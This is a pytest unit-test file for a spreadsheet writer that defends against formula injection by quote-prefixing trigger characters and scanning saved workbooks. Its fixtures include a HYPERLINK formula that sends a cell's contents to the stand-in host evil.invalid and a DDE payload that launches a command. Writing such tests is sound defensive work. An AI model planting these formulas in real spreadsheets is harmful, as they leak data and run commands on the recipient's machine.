"""The one cell writer (nabb.io.cells): quote prefix, numbers, the save-time net, the scanner.

The hostile suite (tests/test_hostile_formulas.py) runs every writer on hostile text; these
are the unit cases of the functions it relies on.
"""
from __future__ import annotations

import pytest
from openpyxl import load_workbook

from nabb.io.cells import FORMULA_TRIGGERS, audit_xlsx, write_cell

HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"Groningen")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", sorted(set(FORMULA_TRIGGERS)))
def test_every_trigger_gets_the_quote_prefix(text):
    from openpyxl import Workbook
    ws = Workbook().active
    write_cell(ws["A1"], text + "1+1")
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix and ws["A1"].value == text + "1+1"


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, True, 1e9])
def test_numbers_stay_numbers(value):
    from openpyxl import Workbook
    ws = Workbook().active
    write_cell(ws["A1"], value)
    assert ws["A1"].value == value and ws["A1"].data_type in ("n", "b") and not ws["A1"].quotePrefix


def test_seal_turns_a_stray_formula_into_text_and_keeps_nabbs_own(tmp_path):
    """The save-time net: a cell that bypassed write_cell cannot go out as a formula."""
    from openpyxl import Workbook
    from nabb.io.cells import save_workbook, write_formula
    wb = Workbook()
    ws = wb.active
    ws["A1"] = HYPERLINK            # bypasses write_cell: openpyxl makes it a formula
    ws["A2"] = "+1+1"               # text, but no quote prefix
    write_formula(ws["A3"], "=1+1")  # nabb's own, on purpose
    save_workbook(wb, tmp_path / "x.xlsx")
    found = audit_xlsx(tmp_path / "x.xlsx")
    assert len(found) == 1 and "cell A3" in found[0], found  # the scanner sees nabb's own one
    assert audit_xlsx(tmp_path / "x.xlsx", allowed_formulas=1) == []
    back = load_workbook(tmp_path / "x.xlsx")
    a1, a2 = back.active["A1"], back.active["A2"]
    assert (a1.value, a1.data_type, a1.quotePrefix) == (HYPERLINK, "s", True)
    assert (a2.value, a2.quotePrefix) == ("+1+1", True)


def test_audit_finds_what_openpyxl_would_write_from_a_hostile_file(tmp_path):
    """The scanner used on every output can fail: a plain openpyxl copy is caught."""
    from openpyxl import Workbook
    wb = Workbook()
    wb.active["A1"] = DDE
    hidden = wb.create_sheet("secret")
    hidden.sheet_state = "veryHidden"
    wb.save(tmp_path / "x.xlsx")
    found = " ".join(audit_xlsx(tmp_path / "x.xlsx"))
    assert "DDE formula" in found and "veryHidden sheet 'secret'" in found
